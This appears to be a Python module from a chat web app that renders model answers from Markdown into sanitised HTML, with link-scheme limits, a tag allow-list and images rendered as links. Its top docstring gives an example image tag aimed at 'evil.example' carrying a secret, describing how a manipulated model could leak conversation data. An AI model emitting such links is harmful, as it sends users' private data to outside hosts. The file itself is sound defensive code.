"""Markdown to HTML that is safe to put into a page.

Three walls, each enough by itself: raw HTML in the text is shown as text and not passed through,
links go only to ``http``, ``https`` and ``mailto``, and what comes out is cleaned against a short
list of tags and attributes. The page's Content-Security-Policy is the fourth.

Images are shown as links. A picture is fetched without a click, so a model that was talked into
writing ``![](https://evil.example/?secret)`` would leak what it knows about the conversation.

``static/markdown.js`` has a smaller renderer for answers that are still being written. It builds the
same tree for the same text (``tests/web`` compares them), so nothing jumps when an answer ends.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from functools import lru_cache
from html import escape
from typing import Any

import nh3
from markdown_it import MarkdownIt
from markdown_it.renderer import RendererHTML
from markdown_it.rules_core import StateCore
from markdown_it.token import Token
from markdown_it.utils import OptionsDict
from markupsafe import Markup
from pygments import highlight  # type: ignore[import-untyped,unused-ignore]
from pygments.formatters import HtmlFormatter  # type: ignore[import-untyped,unused-ignore]
from pygments.lexers import get_lexer_by_name  # type: ignore[import-untyped,unused-ignore]
from pygments.util import ClassNotFound  # type: ignore[import-untyped,unused-ignore]

MARKDOWN_CHARACTERS_MAX = 100_000
"""Longer texts are shown as they are: parsing them would hold up the event loop for too long."""

HIGHLIGHT_CHARACTERS_MAX = 20_000
"""Longer code blocks get no colours, for the same reason."""

_CACHED_TEXTS_MAX = 2_048

_LANGUAGE = re.compile(r"[A-Za-z0-9_+#.-]{1,32}")
_SAFE_LINK = re.compile(r"(?:https?://|mailto:)", re.IGNORECASE)
_BARE_LINK = re.compile(r"(?<![A-Za-z0-9])https?://[^\s<>\"'`*\[\]{}|\\^]+")

_TAGS = set(
    "a blockquote br code del div em h1 h2 h3 h4 h5 h6 hr li ol p pre s span strong "
    "table tbody td th thead tr ul".split()
)
_ATTRIBUTES = {
    "a": {"href", "title"},
    "code": {"class"},
    "div": {"class", "data-lang"},
    "ol": {"start"},
    "span": {"class"},
    "td": {"class"},
    "th": {"class"},
}

_formatter = HtmlFormatter(nowrap=True, classprefix="hl-")


def render_markdown(text: str, *, settled: bool = True) -> Markup:
    """The text as sanitised HTML. ``settled=False`` (the text will change) keeps it out of the cache."""
    if len(text) > MARKDOWN_CHARACTERS_MAX:
        return Markup(f'<p class="plain">{escape(text)}</p>')
    return _render_cached(text) if settled else _render(text)


@lru_cache(maxsize=_CACHED_TEXTS_MAX)
def _render_cached(text: str) -> Markup:
    return _render(text)


def _render(text: str) -> Markup:
    html = nh3.clean(
        _parser.render(text),
        tags=_TAGS,
        attributes=_ATTRIBUTES,
        set_tag_attribute_values={"a": {"target": "_blank"}},
        link_rel="noopener noreferrer nofollow",
        url_schemes={"http", "https", "mailto"},
    )
    return Markup(html)


def _code_block(code: str, info: str) -> str:
    word = info.strip().split(" ", 1)[0]
    language = word.lower() if _LANGUAGE.fullmatch(word) else ""
    return (
        f'<div class="code" data-lang="{escape(language or "text")}">'
        f"<pre><code>{_highlight(code, language)}</code></pre></div>\n"
    )


def _highlight(code: str, language: str) -> str:
    if not language or len(code) > HIGHLIGHT_CHARACTERS_MAX:
        return escape(code)
    try:
        lexer = get_lexer_by_name(language, stripnl=False, ensurenl=False)
    except ClassNotFound:
        return escape(code)
    return str(highlight(code, lexer, _formatter))


def _fence(renderer: RendererHTML, tokens: Sequence[Token], index: int, options: OptionsDict, env: Any) -> str:
    return _code_block(tokens[index].content, tokens[index].info)


def _image(renderer: RendererHTML, tokens: Sequence[Token], index: int, options: OptionsDict, env: Any) -> str:
    address = str(tokens[index].attrs.get("src", ""))
    label = renderer.renderInlineAsText(tokens[index].children, options, env) or address
    return f'<a href="{escape(address)}">{escape(label)}</a>'


def _cell(renderer: RendererHTML, tokens: Sequence[Token], index: int, options: OptionsDict, env: Any) -> str:
    """A table cell. Alignment is a class: the page's policy allows no style attributes."""
    style = tokens[index].attrs.pop("style", None)
    if isinstance(style, str):
        tokens[index].attrs["class"] = "align-" + style.rpartition(":")[2]
    return renderer.renderToken(tokens, index, options, env)


def trim_bare_link(address: str) -> str:
    """Without the punctuation that belongs to the sentence and not to the address."""
    while address and (address[-1] in ".,;:!?" or (address[-1] == ")" and address.count(")") > address.count("("))):
        address = address[:-1]
    return address


def _link_bare_addresses(state: StateCore) -> None:
    for block in state.tokens:
        if block.type == "inline" and block.children and "://" in block.content:
            block.children = _with_links(block.children)


def _with_links(children: list[Token]) -> list[Token]:
    linked: list[Token] = []
    depth = 0
    for token in children:
        depth += token.nesting if token.type in ("link_open", "link_close") else 0
        if token.type == "text" and depth == 0 and "://" in token.content:
            linked.extend(_split_text(token.content))
        else:
            linked.append(token)
    return linked


def _split_text(content: str) -> list[Token]:
    tokens: list[Token] = []
    position = 0
    for found in _BARE_LINK.finditer(content):
        address = trim_bare_link(found.group())
        if address.endswith("://"):
            continue
        before = content[position : found.start()]
        if before:
            tokens.append(Token("text", "", 0, content=before))
        tokens.append(Token("link_open", "a", 1, attrs={"href": address}))
        tokens.append(Token("text", "", 0, content=address))
        tokens.append(Token("link_close", "a", -1))
        position = found.start() + len(address)
    if content[position:]:
        tokens.append(Token("text", "", 0, content=content[position:]))
    return tokens


def _make_parser() -> MarkdownIt:
    parser = MarkdownIt("js-default", {"html": False, "breaks": True, "linkify": False, "maxNesting": 20})
    parser.validateLink = lambda url: bool(_SAFE_LINK.match(url))  # type: ignore[method-assign]
    parser.core.ruler.push("bare_links", _link_bare_addresses)
    parser.add_render_rule("fence", _fence)
    parser.add_render_rule("code_block", _fence)
    parser.add_render_rule("image", _image)
    parser.add_render_rule("th_open", _cell)
    parser.add_render_rule("td_open", _cell)
    return parser


_parser = _make_parser()
